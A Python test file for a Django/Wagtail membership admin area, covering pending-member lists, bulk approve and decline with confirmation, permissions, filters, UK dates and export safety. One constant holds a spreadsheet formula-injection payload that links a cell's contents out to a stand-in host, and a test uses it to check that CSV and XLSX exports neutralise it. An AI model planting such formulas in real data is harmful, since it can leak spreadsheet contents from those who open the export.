"""The member area's admin lists (Wagtail report views): what a decision needs, decisions
in bulk with a confirmation, UK dates, filters, search and formula-safe exports."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.core import mail
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from members.models import Invitation, MembershipStatus, Profile, ProgrammeClaim, Report
from tests.factories import ProgrammeIndexPageFactory, ProgrammePageFactory
from tests.members.factories import ProfileFactory

pytestmark = pytest.mark.usefixtures("deliver_emails")

LONDON = ZoneInfo("Europe/London")
HYPERLINK = '=HYPERLINK("https://example.org/?"&A1,"Click")'


def pending(name, **fields):
    return ProfileFactory(display_name=name, status=MembershipStatus.PENDING, **fields)


def signed_up_at(profile, moment):
    Profile.objects.filter(pk=profile.pk).update(created_at=moment)


def test_pending_list_shows_answers_claims_and_when_they_signed_up(client, staff, home_page):
    programme = ProgrammePageFactory(
        parent=ProgrammeIndexPageFactory(parent=home_page), title="Community Leaders"
    )
    person = pending("Rosa Newcomer", headline="Tenant organiser", home_area="london-hackney")
    signed_up_at(person, datetime(2026, 12, 2, 14, 0, tzinfo=LONDON))
    ProgrammeClaim.objects.create(profile=person, programme=programme, cohort="2024–25")
    client.force_login(staff)
    response = client.get(reverse("members_admin:pending"))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    page = response.text
    assert "Rosa Newcomer" in page and person.user.email in page
    assert "02/12/2026 14:00" in page  # the UK form of the date
    assert "Tenant organiser" in page
    assert "Community Leaders (2024–25)" in page


def test_pending_list_search_and_filter(client, staff, home_page):
    pending("Rosa Newcomer", home_area="london-hackney")
    pending("Tom Elsewhere", home_area="")
    client.force_login(staff)
    found = client.get(reverse("members_admin:pending"), {"q": "Rosa"}).text
    assert "Rosa Newcomer" in found and "Tom Elsewhere" not in found
    area = client.get(reverse("members_admin:pending"), {"home_area": "london-hackney"}).text
    assert "Rosa Newcomer" in area and "Tom Elsewhere" not in area
    bad = client.get(
        reverse("members_admin:pending"), {"home_area": "<x>", "created_at_after": "no"}
    )
    assert bad.status_code == 200


def test_bulk_approval_asks_first_then_approves_emails_and_logs_each(client, staff, home_page):
    first, second, left = pending("First Person"), pending("Second Person"), pending("Left Alone")
    client.force_login(staff)
    url = reverse("members_admin:decide_bulk")
    ticked = {"decision": "approve", "profile": [first.pk, second.pk]}
    confirm = client.post(url, ticked)
    assert confirm.status_code == 200
    assert "First Person" in confirm.text and "Second Person" in confirm.text
    assert "Left Alone" not in confirm.text
    assert Profile.objects.filter(status=MembershipStatus.PENDING).count() == 3
    assert mail.outbox == []

    done = client.post(url, {**ticked, "confirmed": "1"})
    assert done.status_code == 302
    statuses = dict(Profile.objects.values_list("display_name", "status"))
    assert statuses["First Person"] == statuses["Second Person"] == MembershipStatus.APPROVED
    assert statuses["Left Alone"] == MembershipStatus.PENDING
    assert sorted(message.to[0] for message in mail.outbox) == sorted(
        [first.user.email, second.user.email]
    )
    logged = ModelLogEntry.objects.filter(action="members.approved", user=staff)
    assert sorted(entry.data["members"][0] for entry in logged) == sorted(
        [first.user_id, second.user_id]
    )
    left.refresh_from_db()
    assert left.status == MembershipStatus.PENDING


def test_bulk_decline_and_bad_input_change_nothing_unless_confirmed(client, staff, home_page):
    person = pending("Decline Me")
    client.force_login(staff)
    url = reverse("members_admin:decide_bulk")
    for bad in (
        {"decision": "approve"},
        {"decision": "approve", "profile": ["x", "-1"]},
        {"decision": "explode", "profile": [person.pk], "confirmed": "1"},
    ):
        response = client.post(url, bad, follow=True)
        assert response.status_code == 200
        assert response.redirect_chain[-1][0] == reverse("members_admin:pending")
    assert (
        "Tick at least one pending member first."
        in client.post(url, {"decision": "decline"}, follow=True).text
    )
    person.refresh_from_db()
    assert person.status == MembershipStatus.PENDING
    client.post(url, {"decision": "decline", "profile": [person.pk], "confirmed": "1"})
    person.refresh_from_db()
    assert person.status == MembershipStatus.DECLINED
    assert ModelLogEntry.objects.filter(action="members.declined").count() == 1
    assert len(mail.outbox) == 1


def test_only_member_staff_decide_in_bulk(client, viewers):
    person = viewers["pending"].profile
    url = reverse("members_admin:decide_bulk")
    for kind in ["anonymous", "pending", "approved", "another"]:
        client.logout()
        if viewers[kind]:
            client.force_login(viewers[kind])
        response = client.post(
            url, {"decision": "approve", "profile": [person.pk], "confirmed": "1"}
        )
        assert response.status_code in (302, 403), kind
        person.refresh_from_db()
        assert person.status == MembershipStatus.PENDING


def test_pending_export_escapes_formulas_in_csv_and_xlsx(client, staff, home_page):
    pending(HYPERLINK)
    client.force_login(staff)
    response = client.get(reverse("members_admin:pending"), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][0] == "'" + HYPERLINK
    response = client.get(reverse("members_admin:pending"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["A2"].value == "'" + HYPERLINK


def test_reports_list_filters_what_is_still_to_deal_with(client, staff, approved_member):
    profile = approved_member.profile
    Report.objects.create(profile=profile, reason="Asks for money", resolved=False)
    Report.objects.create(profile=profile, reason="Old rudeness", resolved=True)
    client.force_login(staff)
    open_only = client.get(reverse("members_admin:reports"), {"resolved": "false"}).text
    assert "Asks for money" in open_only and "Old rudeness" not in open_only
    searched = client.get(reverse("members_admin:reports"), {"q": "rudeness"}).text
    assert "Old rudeness" in searched and "Asks for money" not in searched


def test_invitations_list_reads_dates_in_full_and_rejects_a_bad_address(client, staff):
    client.force_login(staff)
    response = client.post(reverse("members_admin:invitations"), {"email": "not an address"})
    assert response.status_code == 200
    assert "Enter a valid email address." in response.text
    assert not Invitation.objects.exists()
    client.post(reverse("members_admin:invitations"), {"email": "invited@example.org"})
    invitation = Invitation.objects.get()
    Invitation.objects.filter(pk=invitation.pk).update(
        created_at=datetime(2026, 12, 2, 9, 30, tzinfo=LONDON)
    )
    page = client.get(reverse("members_admin:invitations")).text
    assert "invited@example.org" in page and "2 December 2026" in page


def test_pending_list_costs_the_same_with_many_members(
    client, staff, home_page, django_assert_max_num_queries
):
    programme = ProgrammePageFactory(parent=ProgrammeIndexPageFactory(parent=home_page))
    client.force_login(staff)
    url = reverse("members_admin:pending")
    client.get(url)  # warm the caches the admin keeps per process
    for count in (3, 40):
        for number in range(count):
            person = pending(f"Person {count}-{number}")
            ProgrammeClaim.objects.create(profile=person, programme=programme)
        with django_assert_max_num_queries(25):
            assert client.get(url).status_code == 200
